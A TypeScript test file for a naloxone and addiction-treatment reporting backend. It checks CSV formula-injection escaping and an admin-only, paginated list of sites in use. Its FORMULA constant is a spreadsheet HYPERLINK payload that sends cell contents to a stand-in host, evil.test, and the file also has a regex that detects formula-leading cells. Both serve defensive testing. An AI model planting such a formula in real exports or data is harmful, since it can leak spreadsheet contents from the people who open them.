/**
 * Issue 8, item 8: a site id is an opaque label that is never refused, so it must never reach a
 * spreadsheet as something it would run, and an administrator can list every site in use to spot
 * a typo.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN, OUTREACH, startTestBackend, today } from '../../support/backend.js';

let api: Awaited<ReturnType<typeof startTestBackend>>;
const FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"Open")';

beforeAll(async () => {
  api = await startTestBackend();
  await api.registerKiosk({ kioskId: 'K-SITES-1', siteId: 'site-north' });
  await api.registerKiosk({ kioskId: 'K-SITES-2', siteId: 'site-north' });
  for (const siteId of [FORMULA, 'site-nrth', 'site-north']) {
    const answer = await api.staff(OUTREACH, 'POST', '/v1/naloxone/use-reports', {
      reportId: randomUUID(),
      usedOn: today(),
      siteId,
      outcome: 'survived',
    });
    expect(answer.status).toBe(201);
  }
  await api.staff(OUTREACH, 'POST', '/v1/moud/enrollments', {
    participantRef: 'P-SITES',
    siteId: 'clinic-east',
    enrolledOn: today(),
    medication: 'methadone',
    overdosesPrior12m: 0,
    consent: { outreach: false, part2: false },
  });
});
afterAll(async () => {
  await api.backend.stop();
});

describe('a site id in a CSV report', () => {
  it.each([
    ['format=csv', `/v1/reports/naloxone?from=${today()}&to=${today()}&format=csv&raw=true`, {}],
    [
      'Accept: text/csv',
      `/v1/reports/naloxone?from=${today()}&to=${today()}&raw=true`,
      { accept: 'text/csv' },
    ],
  ])('is shown as text a spreadsheet will not run (%s)', async (_name, path, headers) => {
    // Act
    const answer = await api.staff(ADMIN, 'GET', path, undefined, headers);

    // Assert
    expect(answer.status).toBe(200);
    expect(answer.text).toContain(`"'=HYPERLINK(""http://evil.test/?d=""&A1,""Open"")"`);
    // Records end in CRLF (RFC 4180); within them, no cell starts as a formula would.
    expect(answer.text.split('\r\n').join('\n')).not.toMatch(/(^|,)"?[=+@\t\r]/m);
  });

  it('stays the label as given in the JSON report, where it is data', async () => {
    // Act
    const answer = await api.staff(
      ADMIN,
      'GET',
      `/v1/reports/naloxone?from=${today()}&to=${today()}&raw=true`,
    );

    // Assert
    expect(answer.body.bySite.map((row: { siteId: string }) => row.siteId)).toContain(FORMULA);
  });
});

describe('the list of sites in use', () => {
  it('shows every site with where it was first seen and how often each kind of record uses it', async () => {
    // Act
    const answer = await api.staff(ADMIN, 'GET', '/v1/sites');

    // Assert
    expect(answer.status).toBe(200);
    const bySite = Object.fromEntries(
      answer.body.sites.map((site: { siteId: string }) => [site.siteId, site]),
    ) as Record<string, { firstSeen: Record<string, string>; counts: Record<string, number> }>;
    expect(Object.keys(bySite).sort()).toEqual([FORMULA, 'clinic-east', 'site-north', 'site-nrth'].sort());
    expect(bySite['site-north']).toMatchObject({
      firstSeen: { in: 'kiosk', ref: 'K-SITES-1', by: 'admin', at: expect.any(String) },
      counts: { kiosks: 2, useReports: 1, enrollments: 0 },
    });
    expect(bySite['site-nrth']).toMatchObject({
      firstSeen: { in: 'useReport', by: 'outreach' },
      counts: { kiosks: 0, useReports: 1, enrollments: 0 },
    });
    expect(bySite['clinic-east']).toMatchObject({
      firstSeen: { in: 'enrollment', ref: expect.stringMatching(/^E-/) },
      counts: { enrollments: 1 },
    });
    expect(answer.body.next).toBeUndefined();
  });

  it('counts a retried use report once', async () => {
    // Arrange
    const report = { reportId: randomUUID(), usedOn: today(), siteId: 'site-retry', outcome: 'died' };
    await api.staff(OUTREACH, 'POST', '/v1/naloxone/use-reports', report);

    // Act
    await api.staff(OUTREACH, 'POST', '/v1/naloxone/use-reports', report);
    const answer = await api.staff(ADMIN, 'GET', '/v1/sites');

    // Assert
    const site = answer.body.sites.find((entry: { siteId: string }) => entry.siteId === 'site-retry');
    expect(site.counts.useReports).toBe(1);
  });

  it('pages with limit and next, every site once', async () => {
    // Arrange
    const seen: string[] = [];
    let next: string | undefined;

    // Act
    do {
      const answer = await api.staff(ADMIN, 'GET', `/v1/sites?limit=2${next ? `&next=${next}` : ''}`);
      expect(answer.status).toBe(200);
      expect(answer.body.sites.length).toBeLessThanOrEqual(2);
      seen.push(...answer.body.sites.map((site: { siteId: string }) => site.siteId));
      next = answer.body.next;
    } while (next);

    // Assert
    expect(seen.sort()).toEqual([...new Set(seen)].sort());
    expect(seen).toEqual(expect.arrayContaining(['site-north', 'clinic-east', FORMULA]));
  });

  it('is for administrators only', async () => {
    // Act
    const outreach = await api.staff(OUTREACH, 'GET', '/v1/sites');
    const nobody = await api.staff(undefined, 'GET', '/v1/sites');

    // Assert
    expect(outreach.status).toBe(403);
    expect(nobody.status).toBe(401);
  });

  it('refuses a cursor it did not hand out', async () => {
    // Act
    const answer = await api.staff(ADMIN, 'GET', '/v1/sites?next=bm90LWEtY3Vyc29y');

    // Assert
    expect(answer.status).toBe(400);
    expect(answer.body.error.issues).toEqual([{ path: 'next', message: expect.any(String) }]);
  });
});
